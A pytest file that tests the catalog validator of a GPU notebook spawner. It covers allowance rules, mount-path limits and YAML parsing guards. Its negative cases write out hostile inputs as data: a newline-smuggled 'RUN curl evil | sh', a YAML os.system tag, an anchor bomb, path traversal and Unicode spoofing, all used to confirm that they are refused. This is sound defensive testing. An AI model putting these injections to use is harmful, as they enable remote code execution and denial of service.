import copy

import pytest

from dcloud_spawner.core.catalog import Catalog, CatalogError


def load(data):
    return Catalog.from_data(data)


def test_example_catalog_has_the_documented_ids(catalog):
    assert [e.id for e in catalog.environments] == ["pytorch", "tensorflow", "scipy"]
    assert [g.id for g in catalog.gpu_classes] == ["a100", "t4", "a100-mig-1g"]
    assert [d.id for d in catalog.datasets] == ["imagenet", "coco", "medical-scans"]
    assert catalog.environment("scipy").image.gpu is None
    assert catalog.gpu_class("a100-mig-1g").resource == "nvidia.com/mig-1g.10gb"
    assert catalog.gpu_class("t4").node_selector == {"nvidia.com/gpu.product": "Tesla-T4"}
    assert catalog.dataset("coco").source.type == "nfs"


def test_unknown_key_is_named_with_its_place(catalog_data):
    data = copy.deepcopy(catalog_data)
    data["gpu_classes"][1]["maxcount"] = 3
    with pytest.raises(CatalogError) as err:
        load(data)
    assert "gpu_classes[1].maxcount: unknown key" in err.value.errors


def test_dangling_reference_is_named(catalog_data):
    data = copy.deepcopy(catalog_data)
    data["policies"]["groups"]["students"]["gpu_classes"] = ["t4", "h100"]
    with pytest.raises(CatalogError) as err:
        load(data)
    assert any(
        "policies.groups.students.gpu_classes[1]: unknown GPU class 'h100'" in e
        for e in err.value.errors
    )


def test_duplicate_ids_and_bad_quantities(catalog_data):
    data = copy.deepcopy(catalog_data)
    data["environments"].append(copy.deepcopy(data["environments"][0]))
    with pytest.raises(CatalogError) as err:
        load(data)
    assert "environments[3].id: duplicate id 'pytorch'" in err.value.errors
    data = copy.deepcopy(catalog_data)
    data["policies"]["groups"]["students"]["max_memory"] = "lots"
    with pytest.raises(CatalogError) as err:
        load(data)
    assert err.value.errors == [
        "policies.groups.students.max_memory: 'lots' is not a memory quantity such as 16Gi"
    ]


def test_bad_resource_name_and_dataset_source(catalog_data):
    data = copy.deepcopy(catalog_data)
    data["gpu_classes"][0]["resource"] = "gpu"
    data["datasets"][0]["source"] = {"type": "s3", "bucket": "x"}
    with pytest.raises(CatalogError) as err:
        load(data)
    text = "\n".join(err.value.errors)
    assert "gpu_classes[0].resource" in text
    assert "datasets[0].source" in text


def test_yaml_errors_are_catalog_errors():
    with pytest.raises(CatalogError, match="not valid YAML"):
        Catalog.from_yaml("environments: [")
    with pytest.raises(CatalogError, match="top level must be a mapping"):
        Catalog.from_yaml("- a")


def test_allowance_for_no_group(catalog):
    a = catalog.allowance([])
    assert a.gpu_classes == () and a.max_gpus == 0
    assert a.max_cpu == 2 and a.max_memory == 8 * 2**30
    assert a.datasets == ("imagenet", "coco")


def test_allowance_students(catalog):
    a = catalog.allowance(["students"])
    assert a.gpu_classes == ("t4",) and a.max_gpus == 1
    assert a.max_cpu == 4 and a.max_memory == 16 * 2**30


def test_allowance_is_the_union_of_groups(catalog):
    a = catalog.allowance(["students", "researchers", "medical", "unknown-group"])
    assert a.gpu_classes == ("a100", "t4", "a100-mig-1g")
    assert a.max_gpus == 4 and a.max_cpu == 32 and a.max_memory == 256 * 2**30
    assert a.datasets == ("imagenet", "coco", "medical-scans")


def test_group_policy_cannot_exceed_catalog_bounds(catalog_data):
    data = copy.deepcopy(catalog_data)
    data["policies"]["groups"]["researchers"]["max_cpu"] = 1000
    a = load(data).allowance(["researchers"])
    assert a.max_cpu == 64  # resources.cpu.max


def refusal_lines(data):
    with pytest.raises(CatalogError) as err:
        load(data)
    return err.value.errors


@pytest.mark.parametrize("paths, text", [
    ({0: "/"}, "datasets[0].mount_path: '/' must be a normalised absolute path"),
    ({0: "/data/../etc"}, "datasets[0].mount_path: '/data/../etc' must be a normalised absolute path"),
    ({0: "/data/./x"}, "must be a normalised absolute path"),
    ({0: "//data"}, "must be a normalised absolute path"),
    ({0: "/data", 1: "/data"}, "datasets[1].mount_path: '/data' overlaps the mount path '/data' of datasets[0]"),
    ({0: "/data", 2: "/data/scans"}, "datasets[2].mount_path: '/data/scans' overlaps the mount path '/data'"),
    ({1: "/datasets/imagenet"}, "datasets[1].mount_path: '/datasets/imagenet' overlaps the mount path "
                                "'/datasets/imagenet' of datasets[0] ('imagenet')"),  # imagenet's default
    ({0: "/opt/dcloud/packages"}, "overlaps /opt/dcloud/packages (the extra packages)"),
    ({0: "/opt"}, "overlaps /opt/dcloud/packages (the extra packages)"),
    ({0: "/dev/shm"}, "overlaps /dev/shm (shared memory)"),
    ({0: "/dev"}, "overlaps /dev/shm (shared memory)"),
    ({0: "/home/jovyan"}, "overlaps /home/jovyan (the home directory)"),
    ({0: "/home/jovyan/imagenet"}, "overlaps /home/jovyan (the home directory)"),
    ({0: "/proc/x"}, "overlaps /proc"),
])
def test_dataset_mount_paths_an_admin_relies_on(catalog_data, paths, text):
    data = copy.deepcopy(catalog_data)
    for index, path in paths.items():
        data["datasets"][index]["mount_path"] = path
    lines = refusal_lines(data)
    assert any(text in line for line in lines), lines


def test_distinct_mount_paths_are_fine(catalog_data):
    data = copy.deepcopy(catalog_data)
    data["datasets"][0]["mount_path"] = "/data/imagenet"
    data["datasets"][1]["mount_path"] = "/data/coco"
    assert load(data).dataset("coco").path_in_pod == "/data/coco"


@pytest.mark.parametrize("where, value, text", [
    (("environments", 0, "display_name"), "PyTorch\nRUN curl evil | sh", "found '\\n'"),
    (("environments", 0, "description"), "red \x1b[31malert", "found '\\x1b'"),
    (("gpu_classes", 0, "display_name"), "A100 \u202egnp.exe", "found '\\u202e'"),
    (("datasets", 0, "description"), "line one\nline two", "found '\\n'"),
    (("environments", 0, "image", "cpu"), "x:1\nRUN curl evil | sh", "is not an image reference"),
    (("environments", 0, "image", "gpu"), "x:1 \\", "is not an image reference"),
    (("gpu_classes", 0, "max_count"), True, "gpu_classes[0].max_count: Input should be a valid integer"),
    (("packages", "max_count"), False, "packages.max_count"),
])
def test_text_shown_or_emitted_is_one_clean_line(catalog_data, where, value, text):
    data = copy.deepcopy(catalog_data)
    node = data
    for key in where[:-1]:
        node = node[key]
    node[where[-1]] = value
    lines = refusal_lines(data)
    assert any(text in line for line in lines), lines
    assert all(line.isprintable() for line in lines)


def test_a_folded_description_keeps_working(catalog_data):
    data = copy.deepcopy(catalog_data)
    data["environments"][0]["description"] = "PyTorch 2 with CUDA 12.\n"  # what YAML's '>' gives
    assert load(data).environments[0].description == "PyTorch 2 with CUDA 12."


@pytest.mark.parametrize("text, line", [
    ("environments: []\nenvironments: []\n", "catalog: the key 'environments' appears twice (line 2)"),
    ("a: " + "1" * 5000 + "\n", "catalog: a number has more than 100 digits"),
    ("a: " + "[" * 10_000 + "]" * 10_000 + "\n", "catalog: it is nested deeper than 64 levels"),
    ("environments:\n  - id: x\n   bad: [\n", "catalog: it is not valid YAML (line 3):"),
    ("a: !!python/object/apply:os.system ['true']\n", "catalog: tags such as"),
])
def test_catalog_yaml_problems_are_one_line(text, line):
    with pytest.raises(CatalogError) as err:
        Catalog.from_yaml(text)
    assert len(err.value.errors) == 1
    assert err.value.errors[0].startswith(line), err.value.errors
    assert err.value.errors[0].isprintable()


def test_yaml_1_1_booleans_and_sexagesimals_are_not_read_into_the_catalog(tmp_path):
    from tests.conftest import EXAMPLE_CATALOG

    text = EXAMPLE_CATALOG.read_text()
    assert "max_count: 8" in text
    with pytest.raises(CatalogError) as err:
        Catalog.from_yaml(text.replace("max_count: 8", "max_count: 1:30", 1))
    assert err.value.errors == ["gpu_classes[0].max_count: Input should be a valid integer"]
    with pytest.raises(CatalogError) as err:
        Catalog.from_yaml(text.replace("max_count: 8", "max_count: yes", 1))
    assert err.value.errors == ["gpu_classes[0].max_count: Input should be a valid integer"]


def test_anchors_in_a_catalog_are_fine_but_bombs_are_not():
    from tests.conftest import EXAMPLE_CATALOG

    text = EXAMPLE_CATALOG.read_text()
    text = text.replace("display_name: PyTorch\n", "display_name: &name PyTorch\n", 1)
    text = text.replace("description: PyTorch 2 with CUDA 12, torchvision and JupyterLab.", "description: *name")
    assert Catalog.from_yaml(text).environment("pytorch").description == "PyTorch"
    bomb = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    bomb += [f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 10)]
    with pytest.raises(CatalogError, match="more than 200000 values"):
        Catalog.from_yaml("\n".join(bomb))


def test_unreadable_catalog_files_are_one_line(tmp_path):
    latin1 = tmp_path / "latin1.yaml"
    latin1.write_bytes("environments:\n  - id: x\n    display_name: Café\n".encode("latin-1"))
    with pytest.raises(CatalogError) as err:
        Catalog.from_path(latin1)
    assert err.value.errors == [f"{latin1}: line 3: the catalog is not UTF-8 text (byte 0xe9); save it as UTF-8"]
    with pytest.raises(CatalogError, match="larger than 8 MiB"):
        Catalog.from_path("/dev/zero")
    with pytest.raises(CatalogError, match="cannot read the catalog"):
        Catalog.from_path(tmp_path)


def test_error_lines_are_bounded_and_escaped(catalog_data):
    data = copy.deepcopy(catalog_data)
    data["gpu_classes"][0]["x\ny" * 10_000] = 1
    lines = refusal_lines(data)
    assert lines and all(line.isprintable() and len(line) <= 300 for line in lines)


def test_lone_surrogates_are_refused_not_crashed_on(catalog_data):
    # found by tests/core/test_fuzz.py: pydantic could not encode a message quoting one
    data = copy.deepcopy(catalog_data)
    data["policies"]["groups"]["medical"]["datasets"] = ["\ud800"]
    data["policies"]["groups"]["x\udfff"] = {"gpu_classes": ["\ud801"]}
    lines = refusal_lines(data)
    assert any("unknown dataset '\\ud800'" in line for line in lines), lines
    assert all(line.isprintable() for line in lines)
    with pytest.raises(CatalogError, match="lone surrogate"):
        Catalog.from_yaml('environments: ["\\ud800"]\n')
